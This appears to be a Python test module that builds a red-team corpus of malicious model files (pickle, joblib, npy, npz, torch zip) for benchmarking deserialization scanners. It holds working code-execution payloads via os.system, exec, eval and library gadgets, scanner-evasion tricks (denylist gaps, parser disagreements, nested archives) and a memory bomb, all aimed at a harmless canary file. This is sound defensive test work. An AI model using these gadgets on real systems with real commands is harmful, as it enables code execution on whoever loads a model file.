"""A red-team corpus of model files, built at test time as an attacker would build them.

Each payload, if a plain ``pickle.load``/``joblib.load``/``np.load(allow_pickle=True)``
ran it, would create the canary file. Entries come from public scanner bypasses
(picklescan, modelscan and fickling advisories: denylist gaps, parser disagreements,
archive tricks) and from keel's own issue (allowlisted-class gadgets, bombs).
``benchmarks/bench_scan.py`` runs picklescan and modelscan over the same corpus.
"""

from __future__ import annotations

import bz2
import gzip
import io
import pickle
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

#: The file name suffix a payload is written with, so name-based scanners look at it.
_SUFFIX = {"joblib": ".joblib", "npy": ".npy", "npz": ".npz", "torch": ".pt", "zip": ".pt"}


def _suffix(name: str) -> str:
    for key, suffix in _SUFFIX.items():
        if key in name:
            return suffix
    return ".pkl"


@dataclass(frozen=True)
class Case:
    name: str
    attack: str  # the class of attack, as the issue lists them
    path: Path


def _s(text: str) -> bytes:
    """SHORT_BINUNICODE of ``text``."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _call(module: str, name: str, *args: str) -> bytes:
    """Protocol-4 body calling module.name(*args) with string arguments."""
    body = _s(module) + _s(name) + b"\x93(" + b"".join(_s(a) for a in args) + b"tR"
    return body


def _p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def _touch(canary: Path) -> str:
    return f"touch {canary}"


def _py(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _payload(canary: Path) -> bytes:
    return _p4(_call("os", "system", _touch(canary)))


def _npy(descr: str, body: bytes, pad_to: int = 128) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (pad_to - 10 - len(header) - 1) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + body


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _gadgets(canary: Path) -> dict[str, tuple[str, bytes]]:
    """name -> (attack class, bytes)."""
    touch, py = _touch(canary), _py(canary)
    expr = f"__import__('os').system('{touch}')"
    return {
        "os_system": ("denied call", _payload(canary)),
        "posix_system": ("denied call", _p4(_call("posix", "system", touch))),
        "subprocess_getoutput": ("denied call", _p4(_call("subprocess", "getoutput", touch))),
        "builtins_exec": ("denied call", _p4(_call("builtins", "exec", py))),
        "builtins_eval_proto0": ("denied call", f"c__builtin__\neval\n(V{py}\ntR.".encode()),
        "timeit_timeit": ("denylist gap", _p4(_call("timeit", "timeit", py, "pass"))),
        "cprofile_run": ("denylist gap", _p4(_call("cProfile", "run", py))),
        "pydoc_pipepager": ("denylist gap", _p4(_call("pydoc", "pipepager", "x", touch))),
        "code_interact": (
            "denylist gap",
            _p4(_s("code") + _s("InteractiveInterpreter") + b"\x93)R"),
        ),
        "pandas_eval_gadget": (
            "allowlisted-class gadget",
            _p4(_call("pandas.core.computation.eval", "eval", expr)),
        ),
        "pandas_expr_class": (
            "allowlisted-class gadget",
            _p4(_call("pandas.core.computation.expr", "Expr", expr)),
        ),
        "ndarraywrapper_sibling": (
            "file-reading constructor",
            _p4(_call("joblib.numpy_pickle_compat", "NDArrayWrapper", "sibling.npy", "x")),
        ),
        "numpy_load_sibling": (
            "file-reading constructor",
            _p4(_s("numpy") + _s("load") + b"\x93" + _s("sibling.npy") + b"N\x88\x87R"),
        ),
        "bytearray_8gib": (
            "memory bomb",
            _p4(_s("builtins") + _s("bytearray") + b"\x93\x8a\x05\x00\x00\x00\x00\x02\x85R"),
        ),
        "getattr_chain": (
            "denylist gap",
            _p4(
                _s("builtins")
                + _s("getattr")
                + b"\x93"
                + _s("builtins")
                + _s("__import__")
                + b"\x93"
                + _s("os")
                + b"\x85R"
                + _s("system")
                + b"\x86R"
                + _s(touch)
                + b"\x85R"
            ),
        ),
        "ext_registry": ("denied call", b"\x80\x02\x82\x01" + _s(touch) + b"\x85R."),
        "odd_int_proto0": (
            "parser disagreement",
            f"I0x1\n0cos\nsystem\n(V{touch}\ntR.".encode(),
        ),
        "two_pickles": ("parser disagreement", pickle.dumps([1, 2]) + _payload(canary)),
        "frame_without_proto": (
            "parser disagreement",
            b"\x95"
            + len(_call("os", "system", touch) + b".").to_bytes(8, "little")
            + _call("os", "system", touch)
            + b".",
        ),
    }


def _containers(canary: Path) -> dict[str, tuple[str, bytes]]:
    payload = _payload(canary)
    big_header = "'<f8', " + "'descr': '<f8', " * 300 + "'descr': '|O'"
    return {
        "zlib_joblib": ("compressed stream", zlib.compress(payload)),
        "gzip_joblib": ("compressed stream", gzip.compress(payload)),
        "bz2_joblib": ("compressed stream", bz2.compress(payload)),
        "bad_zlib_sniff": ("parser disagreement", b"x\x9c" + payload),
        "npy_object_word": ("parser disagreement", _npy("'object'", payload)),
        "npy_capital_O": ("pickle in npy", _npy("'|O'", payload)),
        "npz_long_header": (
            "parser disagreement",
            _zip({"w.npy": _npy(big_header, payload, pad_to=8192)}),
        ),
        "torch_zip": ("archive", _zip({"archive/data.pkl": payload, "archive/version": b"3\n"})),
        "torch_zip_deflated": (
            "archive",
            _zip({"archive/data.pkl": payload}, zipfile.ZIP_DEFLATED),
        ),
        "torch_zip_proto0_member": (
            "parser disagreement",
            _zip({"archive/data.pkl": f"cos\nsystem\n(V{_touch(canary)}\ntR.".encode()}),
        ),
        "zip_in_gzip": ("archive", gzip.compress(_zip({"data.pkl": payload}))),
        "joblib_object_array": ("parser disagreement", _joblib_object_array(payload)),
    }


def _joblib_object_array(payload: bytes) -> bytes:
    """A joblib stream whose object array (a nested pickle) holds the payload."""
    import joblib
    import numpy as np

    class Touch:
        def __reduce__(self) -> tuple[object, ...]:
            return (pickle.loads, (payload,))

    buf = io.BytesIO()
    joblib.dump({"w": np.array([Touch()], dtype=object)}, buf)
    return buf.getvalue()


def build(root: Path, canary: Path) -> list[Case]:
    """Write every payload file under ``root``; none of them has run."""
    root.mkdir(parents=True, exist_ok=True)
    sibling = root / "sibling.npy"
    sibling.write_bytes(_npy("'|O'", _payload(canary)))
    cases = [Case("sibling", "pickle in npy", sibling)]
    makers: list[Callable[[Path], dict[str, tuple[str, bytes]]]] = [_gadgets, _containers]
    for make in makers:
        for name, (attack, data) in make(canary).items():
            path = root / f"{name}{_suffix(name)}"
            path.write_bytes(data)
            cases.append(Case(name, attack, path))
    return cases


__all__ = ["Case", "build"]
